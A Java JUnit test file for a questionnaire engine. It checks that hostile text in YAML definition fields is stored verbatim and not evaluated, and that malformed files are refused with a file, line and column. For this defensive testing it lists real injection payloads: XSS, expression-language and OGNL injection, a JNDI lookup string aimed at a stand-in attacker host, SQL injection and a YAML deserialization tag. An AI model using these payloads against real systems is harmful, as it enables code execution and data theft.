package org.candor.engine;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collection;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * A generated corpus of hostile definition files, built from the valid {@code
 * src/test/resources/hostile/questionnaire.yaml}, {@code case.yaml} and {@code section.yaml} by putting hostile values
 * into their {@code ⟨slot⟩}s (or by breaking the files in other ways).
 *
 * <p>Every hostile file must be refused with a problem that names the file, a line and a column,
 * and nothing from it may reach the catalog. Script and expression-language payloads that are
 * legal text (a prompt may well talk about "&lt;script&gt;") are accepted, but kept verbatim as
 * data: the engine neither evaluates nor interpolates them; escaping them is the pages' job.
 */
class HostileDefinitionsTest {

  private static final Path ROOT = Path.of("src/test/resources/hostile");
  private static final Template QUESTIONNAIRE = Template.read("questionnaire.yaml");
  private static final Template CASE = Template.read("case.yaml");
  private static final Template SECTION = Template.read("section.yaml");

  /** Text a page might mistake for markup, a script URL or an expression to evaluate. */
  static final List<String> SCRIPT_TEXTS =
      List.of(
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "<svg/onload=alert(document.domain)>",
          "javascript:alert(document.cookie)",
          "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
          "#{facesContext.externalContext.sessionMap}",
          "#{request.getSession().invalidate()}",
          "${applicationScope}",
          "${jndi:ldap://attacker.example/a}",
          "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
          "{{constructor.constructor('alert(1)')()}}",
          "{{7*7}} [[7*7]]",
          "partner == 'yes' || true",
          "score.risk > 100 ? 'x' : 'y'",
          "'); DROP TABLE answer; --",
          "!!java/object:java.lang.Runtime",
          "&anchor *alias <<: merge",
          "]]></prompt><script>alert(1)</script>",
          "\u202Egnp.exe",
          "line one\nline two </textarea><script>x()</script>");

  /** The text slots of each template, and where the loaded value can be read back. */
  private static final Map<String, Function<Catalog, String>> QUESTIONNAIRE_TEXTS = new LinkedHashMap<>();
  private static final Map<String, Function<Catalog, String>> CASE_TEXTS = new LinkedHashMap<>();
  private static final Map<String, Function<Catalog, String>> SECTION_TEXTS = new LinkedHashMap<>();

  static {
    QUESTIONNAIRE_TEXTS.put("title", c -> q(c).title());
    QUESTIONNAIRE_TEXTS.put("summary", c -> q(c).summary());
    QUESTIONNAIRE_TEXTS.put("dimension.label", c -> q(c).dimensions().get(0).label());
    QUESTIONNAIRE_TEXTS.put("dimension.description", c -> q(c).dimensions().get(0).description());
    QUESTIONNAIRE_TEXTS.put("section.title", c -> q(c).sections().get(0).title());
    QUESTIONNAIRE_TEXTS.put("section.description", c -> q(c).sections().get(0).description());
    QUESTIONNAIRE_TEXTS.put("question.prompt", c -> q(c).questions().get(0).prompt());
    QUESTIONNAIRE_TEXTS.put("help.why", c -> q(c).questions().get(0).help().why());
    QUESTIONNAIRE_TEXTS.put("help.source", c -> q(c).questions().get(0).help().source());
    QUESTIONNAIRE_TEXTS.put("option.label", c -> q(c).questions().get(1).options().get(0).label());
    QUESTIONNAIRE_TEXTS.put("rule.reason", c -> q(c).rules().get(0).reason());
    QUESTIONNAIRE_TEXTS.put("prompt.text", c -> q(c).prompts().get(0).text());
    CASE_TEXTS.put("case.title", c -> c.cases().get(0).title());
    CASE_TEXTS.put("case.scenario", c -> c.cases().get(0).scenario());
    CASE_TEXTS.put("source.title", c -> c.cases().get(0).sources().get(0).title());
    CASE_TEXTS.put("source.publisher", c -> c.cases().get(0).sources().get(0).publisher());
    CASE_TEXTS.put("case.justification", c -> c.cases().get(0).justification());
    CASE_TEXTS.put("case.whatHappened", c -> c.cases().get(0).whatHappened());
    SECTION_TEXTS.put("reusable.title", c -> c.sections().get(0).title());
    SECTION_TEXTS.put("reusable.description", c -> c.sections().get(0).description());
    SECTION_TEXTS.put("reusable.prompt", c -> c.sections().get(0).questions().get(0).prompt());
    SECTION_TEXTS.put("reusable.why", c -> c.sections().get(0).questions().get(0).help().why());
    SECTION_TEXTS.put("reusable.source", c -> c.sections().get(0).questions().get(0).help().source());
    SECTION_TEXTS.put("reusable.option", c -> c.sections().get(0).questions().get(0).options().get(0).label());
  }

  private static final List<String> EXPRESSION_SLOTS = List.of("question.showIf", "rule.when", "prompt.showIf");

  private final QuestionnaireLoader loader = new QuestionnaireLoader();

  private static Questionnaire q(Catalog catalog) {
    return catalog.questionnaires().get(0);
  }

  // ---- legal text stays verbatim data ---------------------------------------------------------

  static Stream<Arguments> scriptTextsInEveryTextField() {
    List<Arguments> all = new ArrayList<>();
    for (String slot : QUESTIONNAIRE_TEXTS.keySet()) {
      SCRIPT_TEXTS.forEach(text -> all.add(Arguments.of(slot, text)));
    }
    for (String slot : CASE_TEXTS.keySet()) {
      SCRIPT_TEXTS.forEach(text -> all.add(Arguments.of(slot, text)));
    }
    for (String slot : SECTION_TEXTS.keySet()) {
      SCRIPT_TEXTS.forEach(text -> all.add(Arguments.of(slot, text)));
    }
    return all.stream();
  }

  @ParameterizedTest(name = "{0} = {1}")
  @MethodSource("scriptTextsInEveryTextField")
  void scriptTextIsAcceptedAndKeptVerbatim(String slot, String text) {
    Map<String, String> values = Map.of(slot, quoted(text));
    Catalog catalog =
        loader.load(
            List.of(
                new DefinitionSource("hostile.yaml", QUESTIONNAIRE.fill(values)),
                new DefinitionSource("hostile-case.yaml", CASE.fill(values)),
                new DefinitionSource("hostile-section.yaml", SECTION.fill(values))));

    assertThat(catalog.errors()).isEmpty();
    Function<Catalog, String> read =
        Stream.of(QUESTIONNAIRE_TEXTS, CASE_TEXTS, SECTION_TEXTS).map(m -> m.get(slot)).filter(f -> f != null).findFirst().orElseThrow();
    assertThat(read.apply(catalog)).isEqualTo(text);
    if (QUESTIONNAIRE_TEXTS.containsKey(slot)) {
      // the stored version is written back as YAML: the text must survive that too
      Catalog stored = loader.load(List.of(new DefinitionSource("stored.yaml", q(catalog).selfContainedYaml())));
      assertThat(stored.errors()).isEmpty();
      assertThat(read.apply(stored)).isEqualTo(text);
    }
  }

  /**
   * Expressions that look hostile but are legal CEL over the declared answers: they compile, and
   * evaluating them compares data; nothing in them is looked up, interpolated or run.
   */
  @ParameterizedTest(name = "{0}")
  @MethodSource("harmlessExpressions")
  void legalButHostileLookingRuleIsOnlyEvaluatedAsData(String when, String partner, boolean fires, String note) {
    Catalog catalog =
        loader.load(List.of(new DefinitionSource("hostile.yaml", QUESTIONNAIRE.fill(Map.of("rule.when", quoted(when))))));
    assertThat(catalog.errors()).isEmpty();

    Recommendation recommendation = new Engine().evaluate(q(catalog), Map.of("partner", partner, "kinds", List.of("paper")));

    assertThat(recommendation.firedRule().id()).isEqualTo(fires ? "red" : "fallback");
    assertThat(String.join("\n", recommendation.notes())).contains(note);
  }

  static Stream<Arguments> harmlessExpressions() {
    return Stream.of(
        Arguments.of("'#{partner}' == 'yes'", "yes", false, ""),
        Arguments.of("size('${partner}') == 10 && partner == 'yes'", "yes", true, ""),
        Arguments.of("'<script>alert(1)</script>'.contains('script') && partner == 'yes'", "yes", true, ""),
        Arguments.of("'%{x}'.matches('^(a+)+$') || partner == 'no'", "no", true, ""),
        Arguments.of("partner == 'yes' && 1 / (size(partner) - 3) > 0", "yes", false, "could not be evaluated"),
        Arguments.of("9223372036854775807 + size(kinds) > 0", "no", false, "could not be evaluated"),
        Arguments.of(
            "[0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0].all(a, [0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0].all(b,"
                + " [0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0].all(c, [0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0].all(d, true))))",
            "yes",
            false,
            "could not be evaluated"));
  }

  // ---- hostile files are refused with a position ----------------------------------------------

  /**
   * One hostile file set.
   *
   * @param line the expected line of the first error in {@code file}, or 0 when any line will do
   * @param column its expected column, or 0 when any column will do
   * @param message a fragment of the first error's message
   */
  record Hostile(String name, List<DefinitionSource> sources, String file, int line, int column, String message) {
    @Override
    public String toString() {
      return name;
    }
  }

  static List<Hostile> corpus() {
    Map<Template, Collection<String>> textSlots = new LinkedHashMap<>();
    textSlots.put(QUESTIONNAIRE, QUESTIONNAIRE_TEXTS.keySet());
    textSlots.put(CASE, CASE_TEXTS.keySet());
    textSlots.put(SECTION, SECTION_TEXTS.keySet());
    return HostileCorpus.all(textSlots, EXPRESSION_SLOTS);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("corpus")
  void hostileFileIsRefusedWithFileLineAndColumn(Hostile hostile) {
    Catalog catalog = loader.load(hostile.sources());

    assertThat(catalog.errors()).as("errors").isNotEmpty();
    DefinitionProblem first =
        catalog.errors().stream().filter(p -> p.source().equals(hostile.file())).findFirst().orElseThrow();
    int lines = (int) hostile.sources().stream().filter(s -> s.name().equals(hostile.file())).findFirst().orElseThrow().text().lines().count();
    assertThat(first.line()).isBetween(1, lines + 1);
    assertThat(first.column()).isPositive();
    if (hostile.column() > 0) {
      assertThat(first.line() + ":" + first.column()).as(first.toString()).isEqualTo(hostile.line() + ":" + hostile.column());
    } else if (hostile.line() > 0) {
      assertThat(first.line()).as(first.toString()).isEqualTo(hostile.line());
    }
    assertThat(first.message()).contains(hostile.message());
    assertThat(catalog.questionnaires()).extracting(Questionnaire::source).doesNotContain(hostile.file());
    assertThat(catalog.sections()).extracting(ReusableSection::source).doesNotContain(hostile.file());
    assertThat(catalog.cases()).extracting(Case::source).doesNotContain(hostile.file());
  }

  @Test
  void theCorpusHoldsAtLeastTwoHundredFiles() {
    assertThat(corpus()).hasSizeGreaterThanOrEqualTo(200);
  }

  static String quoted(String text) {
    StringBuilder out = new StringBuilder("\"");
    text.codePoints()
        .forEach(
            c -> {
              switch (c) {
                case '"' -> out.append("\\\"");
                case '\\' -> out.append("\\\\");
                case '\n' -> out.append("\\n");
                default -> {
                  if (c < 0x20 || c == 0x7f || (c >= 0x80 && c < 0xa0) || c >= 0x2000 && c <= 0x206f) {
                    out.append(String.format("\\u%04x", c));
                  } else {
                    out.appendCodePoint(c);
                  }
                }
              }
            });
    return out.append('"').toString();
  }

  /** A definition file with {@code ⟨slot⟩}s; unfilled slots get harmless defaults. */
  record Template(String name, String text) {
    private static final Pattern SLOT = Pattern.compile("⟨([a-zA-Z.]+)⟩");
    private static final Map<String, String> DEFAULTS =
        Map.of(
            "question.showIf", "\"partner == 'no'\"",
            "rule.when", "\"partner == 'yes'\"",
            "prompt.showIf", "\"answered.kinds\"",
            "weight", "10");

    static Template read(String file) {
      try {
        String name = file.equals("questionnaire.yaml") ? "hostile.yaml" : "hostile-" + file;
        return new Template(name, Files.readString(ROOT.resolve(file)));
      } catch (IOException e) {
        throw new UncheckedIOException(e);
      }
    }

    String fill(Map<String, String> values) {
      Matcher m = SLOT.matcher(text);
      StringBuilder out = new StringBuilder();
      while (m.find()) {
        String slot = m.group(1);
        String value = values.getOrDefault(slot, DEFAULTS.getOrDefault(slot, "Plain text for " + slot));
        m.appendReplacement(out, Matcher.quoteReplacement(value));
      }
      return m.appendTail(out).toString();
    }

    /** Line and column (1-based) where the slot's value starts. */
    int[] position(String slot) {
      int index = text.indexOf("⟨" + slot + "⟩");
      if (index < 0) {
        throw new IllegalArgumentException(slot);
      }
      String before = text.substring(0, index);
      int line = (int) before.chars().filter(c -> c == '\n').count() + 1;
      int column = index - before.lastIndexOf('\n');
      return new int[] {line, column};
    }

    List<String> slots() {
      List<String> slots = new ArrayList<>();
      Matcher m = SLOT.matcher(text);
      while (m.find()) {
        slots.add(m.group(1));
      }
      return slots;
    }
  }
}
